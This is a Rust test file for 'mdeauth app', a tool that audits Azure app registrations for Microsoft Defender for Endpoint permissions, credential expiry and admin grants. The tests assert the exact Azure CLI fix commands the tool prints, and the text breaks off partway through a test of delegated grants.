//! `mdeauth app`: manifest shapes, GUID mapping, every finding with its exact
//! fix line, grants, input errors, and live mode against a fake Microsoft Graph.

mod common;

use common::{fixture, json_out, mdeauth, mint};
use httpmock::prelude::*;
use serde_json::{Value, json};

const AT: &str = mint::VALID_AT;
const MDE: &str = "fc780465-2017-40d4-a0c5-307022471b92";
const DAEMON: &str = "3f6a1b2c-9d8e-4f70-a1b2-c3d4e5f60718";
const MISTAKE: &str = "a4b5c6d7-e8f9-4a0b-8c1d-2e3f4a5b6c7d";
const MACHINE_READ_ALL: &str = "ea8291d3-4b9a-44b5-bc3a-6cea3026dc79";
const ALERT_READ_ALL: &str = "71fe6b80-7034-4028-9ed8-0f316df9c3ff";
const MACHINE_ISOLATE: &str = "7e4e1300-e1b9-4102-88ba-f0cb6e6d5974";
const MACHINE_READ_SCOPE: &str = "fbd3d33a-b1f5-4573-906c-51b39682fbcf";
const FAKE_GUID: &str = "5a9e4d2f-0000-4000-8000-000000000001";
/// TEST-ONLY Graph token value; must never appear in any output.
const GRAPH_TOKEN: &str = "eyJ0eXAiOiJKV1QiLCJhbGciOiJub25lIn0.eyJhdWQiOiJodHRwczovL2dyYXBoLm1pY3Jvc29mdC5jb20iLCJ0ZXN0IjoidGVzdC1vbmx5In0.dGVzdC1vbmx5LXNpZ25hdHVyZQ";

fn app_fixture(name: &str) -> String {
    fixture(&format!("apps/{name}")).display().to_string()
}

/// Run `mdeauth app --format json --at AT <args>`; exit code and JSON.
fn run(args: &[&str]) -> (i32, Value) {
    let out = mdeauth()
        .env_remove("MDEAUTH_GRAPH_TOKEN")
        .args(["app", "--format", "json", "--at", AT])
        .args(args)
        .output()
        .unwrap();
    (out.status.code().unwrap(), json_out(&out))
}

/// `app FILE` for a daemon that needs Machine.Read.All and signs in with a secret.
fn run_secret_daemon(file: &str) -> (i32, Value) {
    run(&[
        file,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "secret",
    ])
}

fn run_file(file: &str, args: &[&str]) -> (i32, Value) {
    let path = app_fixture(file);
    let mut all = vec![path.as_str()];
    all.extend_from_slice(args);
    run(&all)
}

/// Run and expect a usage/environment error: exit code and stderr.
fn run_err(args: &[&str]) -> (i32, String, String) {
    let out = mdeauth()
        .env_remove("MDEAUTH_GRAPH_TOKEN")
        .args(["app", "--at", AT])
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn codes(v: &Value) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["code"].as_str().unwrap().to_string())
        .collect()
}

fn findings<'a>(v: &'a Value, code: &str) -> Vec<&'a Value> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == code)
        .collect()
}

/// The one finding with this code.
fn finding<'a>(v: &'a Value, code: &str) -> &'a Value {
    let f = findings(v, code);
    assert_eq!(f.len(), 1, "expected one {code} in {:?}", codes(v));
    f[0]
}

fn fix_has_line(f: &Value, line: &str) -> bool {
    f["fix"].as_str().unwrap().lines().any(|l| l == line)
}

fn assert_fix_line(f: &Value, line: &str) {
    assert!(
        fix_has_line(f, line),
        "fix lacks line\n  {line}\nfix was:\n{}",
        f["fix"].as_str().unwrap()
    );
}

fn add_line(app: &str, guid_type: &str) -> String {
    format!("az ad app permission add --id {app} --api {MDE} --api-permissions {guid_type}")
}

fn delete_line(app: &str, guid: &str) -> String {
    format!("az ad app permission delete --id {app} --api {MDE} --api-permissions {guid}")
}

fn row<'a>(v: &'a Value, name: &str, kind: &str) -> &'a Value {
    v["app"]["permissions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["name"] == name && r["type"] == kind)
        .unwrap_or_else(|| panic!("no row {name} {kind} in {}", v["app"]["permissions"]))
}

const DAEMON_OK: [&str; 8] = [
    "--permission",
    "Machine.Read.All",
    "--permission",
    "Alert.Read.All",
    "--context",
    "application",
    "--credential",
    "certificate",
];

// ---------- a correct app, and the report shape ----------

#[test]
fn correct_daemon_passes_with_the_app_section() {
    let (code, v) = run_file("daemon-ok.json", &DAEMON_OK);
    assert_eq!(code, 0, "{v}");
    assert_eq!(codes(&v), Vec::<String>::new());
    assert_eq!(v["verdict"], "pass");
    let a = &v["app"];
    assert_eq!(a["app_id"], DAEMON);
    assert_eq!(a["display_name"], "Contoso MDE export daemon");
    assert_eq!(a["source"], "manifest");
    assert_eq!(a["shape"], "microsoft-graph");
    assert_eq!(a["sign_in_audience"], "AzureADMyOrg");
    assert_eq!(a["multi_tenant"], false);
    assert_eq!(a["public_client"], false);
    assert_eq!(a["redirect_uris"], json!([]));
    assert_eq!(a["guid_table"], "built-in");
    assert_eq!(
        a["credentials"],
        json!([{"type": "certificate", "name": "CN=contoso-mde-export",
                "key_id": "b1c2d3e4-f5a6-4b7c-8d9e-0f1a2b3c4d5e",
                "expires": "2027-06-11T08:00:00Z", "starts": "2025-06-11T08:00:00Z",
                "status": "valid"}])
    );
    assert_eq!(
        a["permissions"],
        json!([
            {"name": "Machine.Read.All", "type": "Role", "guid": MACHINE_READ_ALL,
             "requested": true, "granted": null, "needed": true, "confidence": "high"},
            {"name": "Alert.Read.All", "type": "Role", "guid": ALERT_READ_ALL,
             "requested": true, "granted": null, "needed": true, "confidence": "high"}
        ])
    );
}

#[test]
fn human_output_has_the_permission_table_then_findings() {
    let out = mdeauth()
        .args(["app", "--at", AT, &app_fixture("daemon-ok.json")])
        .args(DAEMON_OK)
        .args(["--grants", &app_fixture("grants-daemon-partial.json")])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    let table_at = text.find("WindowsDefenderATP permissions").expect(&text);
    let findings_at = text.find("Findings").expect(&text);
    assert!(table_at < findings_at, "{text}");
    let line = text
        .lines()
        .find(|l| l.contains("Alert.Read.All"))
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>();
    assert_eq!(
        line,
        ["Alert.Read.All", "Role", "yes", "no", "yes", ALERT_READ_ALL]
    );
    let line = text
        .lines()
        .find(|l| l.contains("Machine.Read.All"))
        .unwrap()
        .split_whitespace()
        .collect::<Vec<_>>();
    assert_eq!(
        line,
        [
            "Machine.Read.All",
            "Role",
            "yes",
            "yes",
            "yes",
            MACHINE_READ_ALL
        ]
    );
    assert!(text.contains("app.not_granted"), "{text}");
    assert!(text.contains("Verdict: FAIL"), "{text}");
}

// ---------- permission findings ----------

#[test]
fn role_guid_written_as_scope_is_the_wrong_type() {
    // The classic hand-edited manifest: Machine.Read.All's GUID with "type": "Scope".
    let (code, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
        ],
    );
    assert_eq!(code, 1);
    let f = finding(&v, "app.permission_wrong_type");
    assert_eq!(f["severity"], "error");
    assert!(
        f["message"].as_str().unwrap().contains("with type Scope"),
        "{f}"
    );
    assert_fix_line(f, &delete_line(MISTAKE, MACHINE_READ_ALL));
    assert_fix_line(f, &add_line(MISTAKE, &format!("{MACHINE_READ_ALL}=Role")));
    assert_fix_line(
        f,
        &format!("az ad app permission admin-consent --id {MISTAKE}"),
    );
    assert!(findings(&v, "app.permission_missing").is_empty());
    let r = row(&v, "Machine.Read.All", "Scope");
    assert_eq!(r["requested"], true);
    assert_eq!(r["needed"], false);
    let r = row(&v, "Machine.Read.All", "Role");
    assert_eq!(r["requested"], false);
    assert_eq!(r["needed"], true);
}

#[test]
fn delegated_counterpart_in_application_context_is_the_wrong_type() {
    let (code, v) = run_file(
        "daemon-delegated-perm.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--permission",
            "Machine.Isolate",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(codes(&v), ["app.permission_wrong_type"]);
    let f = finding(&v, "app.permission_wrong_type");
    assert_eq!(f["severity"], "error");
    let msg = f["message"].as_str().unwrap();
    assert!(
        msg.starts_with("Machine.Read is requested as a delegated permission (Scope)"),
        "{msg}"
    );
    assert!(msg.contains("Machine.Read.All as a Role"), "{msg}");
    assert_fix_line(
        f,
        &add_line(
            "c8d9e0f1-a2b3-4c4d-9e5f-6a7b8c9d0e1f",
            &format!("{MACHINE_READ_ALL}=Role"),
        ),
    );
    // AAD Graph manifest shape.
    assert_eq!(v["app"]["shape"], "aad-graph");
}

#[test]
fn application_permission_in_delegated_context_is_the_wrong_type() {
    let (code, v) = run_file(
        "daemon-ok.json",
        &[
            "--permission",
            "Machine.Read",
            "--context",
            "delegated",
            "--credential",
            "secret",
        ],
    );
    assert_eq!(code, 1);
    let f = finding(&v, "app.permission_wrong_type");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("Machine.Read.All is requested as an application permission (Role)"),
        "{f}"
    );
    assert_fix_line(f, &add_line(DAEMON, &format!("{MACHINE_READ_SCOPE}=Scope")));
    // The Role itself serves no delegated call: its removal is in the fix.
    assert_fix_line(
        f,
        &format!(
            "{}   # Machine.Read.All (Role) serves no delegated call",
            delete_line(DAEMON, MACHINE_READ_ALL)
        ),
    );
    // The other application permission is useless in delegated context.
    let u = finding(&v, "app.permission_unneeded");
    assert_eq!(u["severity"], "warning");
    assert!(
        u["message"]
            .as_str()
            .unwrap()
            .starts_with("Alert.Read.All is a")
    );
    assert_fix_line(
        u,
        &format!("remove it: {}", delete_line(DAEMON, ALERT_READ_ALL)),
    );
}

#[test]
fn missing_permission_gives_the_exact_add_line() {
    let (code, v) = run_file(
        "daemon-ok.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--permission",
            "Machine.Isolate",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert_eq!(code, 1);
    let f = finding(&v, "app.permission_missing");
    assert_eq!(f["severity"], "error");
    assert_eq!(
        f["message"],
        "application permission (Role) Machine.Isolate is not requested (needed by --permission Machine.Isolate)"
    );
    assert_eq!(
        f["fix"],
        format!(
            "{}\naz ad app permission admin-consent --id {DAEMON}",
            add_line(DAEMON, &format!("{MACHINE_ISOLATE}=Role"))
        )
    );
    let r = row(&v, "Machine.Isolate", "Role");
    assert_eq!(r["requested"], false);
    assert_eq!(r["guid"], MACHINE_ISOLATE);
}

/// A daemon plan of one permission, signing in with a certificate: the
/// fixture daemon also requests Alert.Read.All, which it does not need.
const MACHINE_READ_BY_CERT: [&str; 6] = [
    "--permission",
    "Machine.Read.All",
    "--context",
    "application",
    "--credential",
    "certificate",
];

#[test]
fn strict_fails_an_app_with_least_privilege_warnings() {
    let (code, _) = run_file("daemon-ok.json", &MACHINE_READ_BY_CERT);
    assert_eq!(code, 0, "warnings only");
    let mut strict = MACHINE_READ_BY_CERT.to_vec();
    strict.push("--strict");
    let (code, v) = run_file("daemon-ok.json", &strict);
    assert_eq!(code, 1, "{v}");
    assert_eq!(v["verdict"], "fail");
}

#[test]
fn permission_not_needed_by_the_plan_is_flagged_for_least_privilege() {
    let (code, v) = run_file("daemon-ok.json", &MACHINE_READ_BY_CERT);
    assert_eq!(code, 0, "warnings only");
    let f = finding(&v, "app.permission_unneeded");
    assert_eq!(f["severity"], "warning");
    assert_eq!(
        f["message"],
        "Alert.Read.All is requested but no planned call needs it (least privilege)"
    );
    // Removing the request does not take a consented role out of the
    // tokens: whether it was consented is not known without grants.
    assert_eq!(
        f["fix"],
        format!(
            "remove it: {}\n{}",
            delete_line(DAEMON, ALERT_READ_ALL),
            "if it was consented, also revoke the grant (Enterprise applications > the app > Permissions): removing the request leaves it in the tokens"
        )
    );
    assert_eq!(row(&v, "Alert.Read.All", "Role")["needed"], false);
    // With grants that say it is granted: revoke it, not "if".
    let grants = fixture("apps/grants-both.json");
    let mut with_grants = MACHINE_READ_BY_CERT.to_vec();
    with_grants.extend(["--grants", grants.to_str().unwrap()]);
    let (_, v) = run_file("daemon-ok.json", &with_grants);
    let fix = finding(&v, "app.permission_unneeded")["fix"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        fix.ends_with("\nthen revoke its grant, which removing the request leaves in the tokens: remove the assignment in the portal (Enterprise applications > the app > Permissions), or with az rest --method DELETE on the service principal's appRoleAssignments/<id>"),
        "{fix}"
    );
}

#[test]
fn a_call_with_no_documented_permission_holds_back_least_privilege_as_check_does() {
    // The security baseline calls have no permission table: Alert.Read.All
    // might be what they need, so it is not said to be removable.
    let args = [
        "--call",
        "GET /api/machines",
        "--call",
        "GET /api/baselineProfiles",
        "--context",
        "application",
        "--credential",
        "certificate",
        "--strict",
    ];
    let (code, v) = run_file("daemon-ok.json", &args);
    assert!(findings(&v, "app.permission_unneeded").is_empty(), "{v}");
    let f = finding(&v, "app.permission_undecided");
    assert_eq!(f["severity"], "info");
    assert_eq!(
        f["message"],
        "whether the plan needs Alert.Read.All could not be decided: the documentation names no application permission for GET /api/baselineProfiles, which may need any of them"
    );
    assert_eq!(code, 0, "an info does not fail --strict: {v}");
}

#[test]
fn a_legacy_portal_role_is_named_as_one_only_users_can_hold() {
    // secop is an app role with allowedMemberTypes ["User"]: requested by an
    // app it grants nothing, with the built-in table and with --sp alike.
    let dir = tempfile::tempdir().unwrap();
    let mut app = fixture_json("daemon-ok.json");
    app["requiredResourceAccess"][0]["resourceAccess"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "2261fd4a-5f23-4b74-9e4d-f4ac92dc86a2", "type": "Role"}));
    let file = dir.path().join("secop.json");
    std::fs::write(&file, app.to_string()).unwrap();
    let sp = app_fixture("sp-mde.json");
    for extra in [&[][..], &["--sp", sp.as_str()]] {
        let mut args = vec![file.to_str().unwrap()];
        args.extend_from_slice(&DAEMON_OK);
        args.extend_from_slice(extra);
        let (_, v) = run(&args);
        let f = finding(&v, "app.permission_user_only");
        assert_eq!(
            f["message"],
            "requiredResourceAccess lists secop (2261fd4a-5f23-4b74-9e4d-f4ac92dc86a2), a WindowsDefenderATP app role only users can hold (a legacy portal role): no app can be granted it, so it is never in the app's tokens",
            "{extra:?}"
        );
        assert_eq!(
            f["fix"],
            format!(
                "remove it: {}",
                delete_line(DAEMON, "2261fd4a-5f23-4b74-9e4d-f4ac92dc86a2")
            )
        );
        let c = codes(&v);
        assert!(
            !c.contains(&"app.unknown_guid".to_string())
                && !c.contains(&"app.permission_unneeded".to_string()),
            "{extra:?}: {c:?}"
        );
    }
}

#[test]
fn permission_flags_take_the_documentations_misspellings() {
    // "Alerts.ReadWrite.All" is how the update-alert page spells it; tokens
    // carry Alert.ReadWrite.All.
    let (code, v) = run_file(
        "daemon-ok.json",
        &[
            "--context",
            "application",
            "--credential",
            "certificate",
            "--permission",
            "Alerts.ReadWrite.All",
        ],
    );
    assert_eq!(code, 1, "{v}");
    let f = finding(&v, "app.permission_missing");
    assert!(
        f["message"].as_str().unwrap().contains(
            "Alert.ReadWrite.All is not requested (needed by --permission Alert.ReadWrite.All)"
        ),
        "{f}"
    );
    // A real name of the other kind is refused, not read as a misspelling
    // of the other kind's (the docs once wrote Machine.Read.All for the
    // delegated Machine.Read).
    let (code, _, err) = run_err(&[
        &app_fixture("daemon-ok.json"),
        "--context",
        "delegated",
        "--permission",
        "Machine.Read.All",
    ]);
    assert_eq!(code, 2);
    assert!(
        err.contains("--permission Machine.Read.All is an application permission (Role), but --context is delegated"),
        "{err}"
    );
}

#[test]
fn no_mde_permissions_at_all() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("graph-only.json");
    std::fs::write(
        &p,
        json!({
            "appId": DAEMON, "displayName": "graph only", "signInAudience": "AzureADMyOrg",
            "requiredResourceAccess": [{"resourceAppId": "00000003-0000-0000-c000-000000000000",
                "resourceAccess": [{"id": "e1fe6dd8-ba31-4d61-89e7-88639da4683d", "type": "Scope"}]}]
        })
        .to_string(),
    )
    .unwrap();
    let (code, v) = run(&[
        p.to_str().unwrap(),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 1);
    let f = finding(&v, "app.no_mde_permissions");
    assert_eq!(f["severity"], "error");
    assert_fix_line(
        finding(&v, "app.permission_missing"),
        &add_line(DAEMON, &format!("{MACHINE_READ_ALL}=Role")),
    );
}

// ---------- GUID mapping ----------

#[test]
fn unknown_guid_is_reported_with_the_guid() {
    let (_, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
        ],
    );
    let f = finding(&v, "app.unknown_guid");
    assert_eq!(f["severity"], "warning");
    assert_eq!(
        f["message"],
        format!("WindowsDefenderATP permission {FAKE_GUID} (Role) is not in the built-in table")
    );
    assert!(f["fix"].as_str().unwrap().contains("--sp sp.json"));
    let unknown = v["app"]["permissions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["guid"] == FAKE_GUID)
        .unwrap();
    assert_eq!(unknown["name"], Value::Null);
    assert_eq!(unknown["confidence"], Value::Null);
}

#[test]
fn service_principal_export_names_tenant_guids() {
    let (_, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
            "--sp",
            &app_fixture("sp-mde.json"),
        ],
    );
    assert_eq!(v["app"]["guid_table"], "service-principal");
    let r = row(&v, "Example.Read.All", "Role");
    assert_eq!(r["guid"], FAKE_GUID);
    assert_eq!(r["confidence"], "tenant");
    // Alert.ReadWrite.All is not in this (trimmed) service principal: unknown to the tenant.
    let f = finding(&v, "app.unknown_guid");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .contains("0f7000ec-157b-497f-b70e-ef0b0584f140 (Role) does not exist in this tenant"),
        "{f}"
    );
    assert_eq!(
        f["fix"],
        format!(
            "remove it: {}",
            delete_line(MISTAKE, "0f7000ec-157b-497f-b70e-ef0b0584f140")
        )
    );
    assert!(findings(&v, "app.permission_unneeded").iter().any(|f| {
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("Example.Read.All")
    }));
}

#[test]
fn single_source_guids_are_flagged() {
    let (code, v) = run_file(
        "seed-user-app.json",
        &[
            "--permission",
            "Alert.Read",
            "--permission",
            "Machine.Isolate",
            "--context",
            "delegated",
            "--credential",
            "user",
        ],
    );
    assert_eq!(code, 1);
    let f = finding(&v, "app.permission_missing");
    assert_fix_line(
        f,
        &format!(
            "{}   # GUID from a single source: confirm with az ad sp show --id {MDE}",
            add_line(
                "b7c8d9e0-f1a2-4b3c-8d4e-5f6a7b8c9d0e",
                "479231ef-3b86-4933-ae6b-1fa84bba9e31=Scope"
            )
        ),
    );
    assert_eq!(row(&v, "Machine.Isolate", "Scope")["confidence"], "medium");
    let out = mdeauth()
        .args(["app", "--at", AT, &app_fixture("seed-user-app.json")])
        .args(["--permission", "Machine.Isolate", "--context", "delegated"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("479231ef-3b86-4933-ae6b-1fa84bba9e31 *"),
        "{text}"
    );
    assert!(text.contains("* GUID from a single source"), "{text}");
}

// ---------- tenancy, public client, redirect URIs ----------

#[test]
fn single_tenant_app_for_a_multi_tenant_plan() {
    let mut args = DAEMON_OK.to_vec();
    args.push("--multi-tenant");
    let (code, v) = run_file("daemon-ok.json", &args);
    assert_eq!(code, 1);
    let f = finding(&v, "app.not_multi_tenant");
    assert_eq!(f["severity"], "error");
    assert_fix_line(
        f,
        &format!("az ad app update --id {DAEMON} --sign-in-audience AzureADMultipleOrgs"),
    );
    assert_fix_line(
        f,
        &format!(
            "then an admin of each customer tenant consents: https://login.microsoftonline.com/common/oauth2/authorize?prompt=consent&client_id={DAEMON}&response_type=code&sso_reload=true"
        ),
    );
    // Consent in customer tenants goes through a redirect URI, and this app has none.
    let r = finding(&v, "app.no_redirect_uri");
    assert_eq!(r["severity"], "error");
    assert_fix_line(
        r,
        &format!("az ad app update --id {DAEMON} --web-redirect-uris https://<your-app>/signin"),
    );
}

/// The partner app's intent: hunting with a certificate, for many tenants.
const PARTNER: [&str; 7] = [
    "--permission",
    "AdvancedQuery.Read.All",
    "--context",
    "application",
    "--credential",
    "certificate",
    "--multi-tenant",
];

#[test]
fn multi_tenant_partner_app_passes() {
    let (code, v) = run_file("partner-multitenant.json", &PARTNER);
    assert_eq!(code, 0, "{v}");
    assert_eq!(codes(&v), Vec::<String>::new());
    assert_eq!(v["app"]["sign_in_audience"], "AzureADMultipleOrgs");
    assert_eq!(v["app"]["multi_tenant"], true);
    assert_eq!(
        v["app"]["redirect_uris"],
        json!([{"type": "Web", "uri": "https://wdatpecosystempartner.example/signin"}])
    );
}

#[test]
fn public_client_flows_off_for_a_password_or_device_code_plan() {
    for cred in ["user", "device-code"] {
        let (code, v) = run_file(
            "public-client-off.json",
            &[
                "--permission",
                "Alert.Read",
                "--context",
                "delegated",
                "--credential",
                cred,
            ],
        );
        assert_eq!(code, 1, "{cred}");
        assert_eq!(codes(&v), ["app.public_client_off"], "{cred}");
        let f = finding(&v, "app.public_client_off");
        assert_eq!(f["severity"], "error");
        assert_eq!(
            f["fix"],
            "az ad app update --id f0e1d2c3-b4a5-4968-8776-5a4b3c2d1e0f --is-fallback-public-client true"
        );
        assert_eq!(
            v["app"]["redirect_uris"],
            json!([{"type": "publicClient", "uri": "https://login.microsoftonline.com/common/oauth2/nativeclient"}])
        );
    }
}

#[test]
fn a_plan_naming_its_sign_in_flow_gets_the_public_client_check_too() {
    // `credential = "device_code"` (or "device-code", or "password") says
    // the flow, as --credential does; `user` alone leaves it unchecked.
    let dir = tempfile::tempdir().unwrap();
    for (cred, code) in [
        ("device_code", 1),
        ("device-code", 1),
        ("password", 1),
        ("user", 0),
    ] {
        let plan = dir.path().join(format!("{cred}.toml"));
        std::fs::write(
            &plan,
            format!("name = \"p\"\ncontext = \"delegated\"\ncredential = \"{cred}\"\ncalls = [\"GET /api/alerts\"]\n"),
        )
        .unwrap();
        let (got, v) = run_file(
            "public-client-off.json",
            &["--plan", plan.to_str().unwrap()],
        );
        assert_eq!(got, code, "{cred}: {v}");
        assert_eq!(
            codes(&v).contains(&"app.public_client_off".to_string()),
            code == 1,
            "{cred}: {v}"
        );
    }
}

#[test]
fn seed_user_context_app_is_a_public_client_and_passes() {
    let (code, v) = run_file(
        "seed-user-app.json",
        &[
            "--permission",
            "Alert.Read",
            "--context",
            "delegated",
            "--credential",
            "user",
        ],
    );
    assert_eq!(code, 0, "{v}");
    assert_eq!(v["app"]["public_client"], true);
}

#[test]
fn interactive_sign_in_without_redirect_uri() {
    let (code, v) = run_file(
        "daemon-delegated-perm.json",
        &[
            "--permission",
            "Machine.Read",
            "--context",
            "delegated",
            "--credential",
            "interactive",
        ],
    );
    assert_eq!(code, 1);
    let f = finding(&v, "app.no_redirect_uri");
    assert_eq!(f["severity"], "error");
    assert_fix_line(
        f,
        "az ad app update --id c8d9e0f1-a2b3-4c4d-9e5f-6a7b8c9d0e1f --web-redirect-uris https://<your-app>/signin",
    );
}

// ---------- credentials ----------

#[test]
fn secret_expiring_within_the_window() {
    let (code, v) = run_file(
        "expiring-secret.json",
        &[
            "--permission",
            "Vulnerability.Read.All",
            "--context",
            "application",
        ],
    );
    assert_eq!(code, 0, "warnings only: {v}");
    let f = finding(&v, "app.secret_expiring");
    assert_eq!(f["severity"], "warning");
    // The AAD Graph description is base64 UTF-16 ("prod").
    assert_eq!(
        f["message"],
        "client secret \"prod\" expires 2026-03-20T00:00:00Z (in 18 days), within 30 days"
    );
    assert_fix_line(
        f,
        "az ad app credential delete --id e2f3a4b5-c6d7-4e8f-9a0b-1c2d3e4f5a6b --key-id 9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6e",
    );
    assert_eq!(v["app"]["credentials"][0]["status"], "expiring");
    // A shorter window: no warning.
    let (_, v) = run_file(
        "expiring-secret.json",
        &[
            "--permission",
            "Vulnerability.Read.All",
            "--context",
            "application",
            "--expiry-days",
            "10",
        ],
    );
    assert!(findings(&v, "app.secret_expiring").is_empty());
    assert_eq!(v["app"]["credentials"][0]["status"], "valid");
    // A plan that signs in with a managed identity has no use for the
    // secret: it is not to be renewed (app.secret_unused says to delete
    // it), and its expiry is no warning.
    let (_, v) = run_file(
        "expiring-secret.json",
        &[
            "--permission",
            "Vulnerability.Read.All",
            "--context",
            "application",
            "--credential",
            "managed-identity",
        ],
    );
    let f = finding(&v, "app.secret_expiring");
    assert_eq!(f["severity"], "info");
    assert_eq!(
        f["message"],
        "client secret \"prod\" expires 2026-03-20T00:00:00Z (in 18 days); the plan signs in with managed-identity, so let it lapse rather than renew it"
    );
    assert!(
        !f["fix"].as_str().unwrap().contains("credential reset"),
        "{f}"
    );
    assert!(
        f["fix"]
            .as_str()
            .unwrap()
            .ends_with("# if nothing else uses it"),
        "{f}"
    );
    // A certificate plan whose app has no certificate still signs in with
    // the secret: renewing it stays the advice.
    let (_, v) = run_file(
        "expiring-secret.json",
        &[
            "--permission",
            "Vulnerability.Read.All",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert_eq!(finding(&v, "app.secret_expiring")["severity"], "warning");
    assert_eq!(finding(&v, "app.certificate_missing")["severity"], "error");
    assert_eq!(finding(&v, "app.secret_unused")["severity"], "warning");
}

#[test]
fn secret_expired_is_an_error_when_it_is_the_only_one() {
    let out = mdeauth()
        .args(["app", "--format", "json", "--at", "2026-04-01T00:00:00Z"])
        .arg(app_fixture("expiring-secret.json"))
        .args([
            "--permission",
            "Vulnerability.Read.All",
            "--context",
            "application",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let v = json_out(&out);
    let f = finding(&v, "app.secret_expired");
    assert_eq!(f["severity"], "error");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("client secret \"prod\" expired 2026-03-20T00:00:00Z"),
        "{f}"
    );
    assert!(
        f["fix"].as_str().unwrap().starts_with(
            "az ad app credential reset --id e2f3a4b5-c6d7-4e8f-9a0b-1c2d3e4f5a6b --append"
        ),
        "{f}"
    );
    assert_eq!(v["app"]["credentials"][0]["status"], "expired");
}

#[test]
fn secret_where_a_certificate_would_do() {
    let (_, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
        ],
    );
    let f = finding(&v, "app.secret_instead_of_certificate");
    assert_eq!(f["severity"], "warning");
    assert!(f["fix"].as_str().unwrap().starts_with(&format!(
        "az ad app credential reset --id {MISTAKE} --append --cert @daemon-cert.pem"
    )));
    // Planning a certificate the app does not have is an error instead.
    let (_, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert!(findings(&v, "app.secret_instead_of_certificate").is_empty());
    assert_eq!(finding(&v, "app.certificate_missing")["severity"], "error");
    // The secret it still holds can get the same tokens: least privilege.
    let f = finding(&v, "app.secret_unused");
    assert_eq!(f["severity"], "warning");
    assert_eq!(
        f["message"],
        "the plan signs in with certificate, but the app also holds 1 working client secret(s), each of which can get the same tokens"
    );
    assert_fix_line(
        f,
        &format!(
            "az ad app credential delete --id {MISTAKE} --key-id 6f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0   # if nothing else uses it"
        ),
    );
    // Naming the secret is a choice: advice, which --strict lets pass.
    let (code, v) = run_file(
        "daemon-scope-mistake.json",
        &[
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
            "--credential",
            "secret",
            "--strict",
        ],
    );
    assert_eq!(
        finding(&v, "app.secret_instead_of_certificate")["severity"],
        "info"
    );
    assert!(findings(&v, "app.secret_unused").is_empty());
    // (The fixture's other defects fail it.)
    assert_eq!(code, 1, "{v}");
}

#[test]
fn az_cli_output_with_an_expired_secret() {
    let (code, v) = run_file(
        "az-cli-show.json",
        &[
            "--permission",
            "Machine.Isolate",
            "--context",
            "application",
        ],
    );
    assert_eq!(code, 1);
    assert_eq!(v["app"]["display_name"], "sentinel-mde-isolate");
    assert_eq!(v["app"]["shape"], "microsoft-graph");
    let f = finding(&v, "app.secret_expired");
    assert_eq!(f["severity"], "error");
    assert!(f["message"].as_str().unwrap().contains("\"playbook\""));
    assert_eq!(finding(&v, "app.unknown_guid")["severity"], "warning");
}

// ---------- grants ----------

#[test]
fn configured_but_not_granted() {
    let mut args = DAEMON_OK.to_vec();
    let g = app_fixture("grants-daemon-partial.json");
    args.extend(["--grants", &g]);
    let (code, v) = run_file("daemon-ok.json", &args);
    assert_eq!(code, 1);
    let f = finding(&v, "app.not_granted");
    assert_eq!(f["severity"], "error");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("Alert.Read.All is configured but not granted")
    );
    assert_eq!(
        f["fix"],
        format!("az ad app permission admin-consent --id {DAEMON}")
    );
    assert_eq!(row(&v, "Machine.Read.All", "Role")["granted"], true);
    assert_eq!(row(&v, "Alert.Read.All", "Role")["granted"], false);
}

#[test]
fn grants_file_with_both_keys_all_granted() {
    let mut args = DAEMON_OK.to_vec();
    let g = app_fixture("grants-both.json");
    args.extend(["--grants", &g]);
    let (code, v) = run_file("daemon-ok.json", &args);
    assert_eq!(code, 0, "{v}");
    assert_eq!(row(&v, "Alert.Read.All", "Role")["granted"], true);
}

/// The user app asking for Alert.Read and Machine.Read, with these grants.
fn user_app_with_grants(grants: &str) -> (i32, Value) {
    run_file(
        "seed-user-app.json",
        &[
            "--permission",
            "Alert.Read",
            "--permission",
            "Machine.Read",
            "--context",
            "delegated",
            "--credential",
            "user",
            "--grants",
            grants,
        ],
    )
}

#[test]
fn delegated_grants_as_a_bare_array() {
    let (code, v) = user_app_with_grants(&app_fixture("grants-delegated.json"));
    assert_eq!(code, 1);
    assert_eq!(row(&v, "Alert.Read", "Scope")["granted"], true);
